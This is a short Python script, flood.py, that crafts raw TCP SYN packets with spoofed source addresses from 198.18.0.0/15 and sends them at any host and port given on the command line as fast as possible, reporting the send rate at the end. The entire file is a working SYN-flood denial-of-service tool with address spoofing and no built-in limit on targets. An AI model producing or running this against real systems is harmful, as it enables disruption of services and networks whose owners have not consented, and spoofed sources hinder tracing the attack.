"""flood.py HOST PORT: SYN packets from addresses of nobody's (198.18.0.0/15), as fast as they can be sent, until its
stdin ends. Says `flooding`, and at the end how many a second they were. Needs a raw socket."""
import random
import socket
import struct
import sys
import threading
import time

VARIED = 20_000
BATCH = 500

host, port = sys.argv[1], int(sys.argv[2])
target = socket.inet_aton(host)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn():
    source = bytes([198, random.choice((18, 19)), random.randrange(256), random.randrange(1, 255)])
    own, number = random.randrange(1024, 65536), random.getrandbits(32)
    head = struct.pack("!HHIIBBHHH", own, port, number, 0, 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head)) + head)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    return ip + head[:16] + struct.pack("!H", sum_) + head[18:]


def main():
    packets = [syn() for _ in range(VARIED)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
    print("flooding", flush=True)
    begun, sent = time.monotonic(), 0
    while not ended.is_set():
        first = sent % VARIED
        for packet in packets[first : first + BATCH]:
            raw.sendto(packet, (host, 0))
        sent += BATCH
    print("rate", round(sent / (time.monotonic() - begun)))


main()
